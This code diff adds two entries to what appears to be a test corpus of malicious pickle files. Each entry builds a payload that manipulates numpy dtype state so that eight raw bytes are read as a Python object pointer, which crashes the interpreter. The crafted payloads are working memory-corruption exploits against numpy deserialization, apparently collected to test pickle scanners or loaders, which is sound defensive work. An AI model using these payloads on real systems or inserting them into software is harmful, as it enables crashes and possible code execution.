@@ -587,6 +587,31 @@ def _():
     return pk.proto(2) + reconstruct_array(dt, 2, pk.binbytes(b"\x00" * 16)) + pk.STOP
 
 
+@attack("dtype_second_state.pkl", "dangerous", "state",
+        "a V8 dtype built plainly, an array of it from 8 raw bytes, then a second BUILD of the "
+        "same dtype (from the memo) with an object field: numpy takes it and the array's "
+        "bytes become an object pointer (Python crashes)", check="loads")
+def _():
+    d0 = np_dtype_v8_state(pk.NONE, pk.NONE, pk.NONE, 0) + pk.put(50)
+    objfields = pk.dct((pk.uni("a"), pk.tup(np_dtype("O"), pk.integer(0))))
+    state2 = pk.tup(pk.integer(3), pk.uni("|"), pk.NONE, pk.tup(pk.uni("a")), objfields, pk.integer(8),
+                    pk.integer(1), pk.integer(27))
+    return (pk.proto(2) + pk.EMPTY_LIST + pk.MARK + reconstruct_array(d0, 1, pk.binbytes(b"\x41" * 8))
+            + pk.get(50) + state2 + pk.BUILD + pk.APPENDS + pk.STOP)
+
+
+@attack("dtype_fields_on_float64.pkl", "dangerous", "state",
+        "a float64 dtype given fields (an object at offset 0): numpy takes them, and the "
+        "array's 8 raw bytes read as field 'a' are an object pointer", check="loads",
+        expect=["pickle", "pickle-py"])
+def _():
+    objfields = pk.dct((pk.uni("a"), pk.tup(np_dtype("O"), pk.integer(0))))
+    dt = (pk.call(pk.glob("numpy", "dtype"), pk.uni("f8"), pk.NEWFALSE, pk.NEWTRUE)
+          + pk.tup(pk.integer(3), pk.uni("<"), pk.NONE, pk.tup(pk.uni("a")), objfields, _M1, _M1,
+                   pk.integer(0)) + pk.BUILD)
+    return pk.proto(2) + reconstruct_array(dt, 1, pk.binbytes(b"\x41" * 8)) + pk.STOP
+
+
 @attack("dtype_field_past_itemsize.pkl", "dangerous", "state",
         "a dtype state whose field lies past the itemsize (offset 4096 in a V8)",
         check="loads", expect=["pickle"])
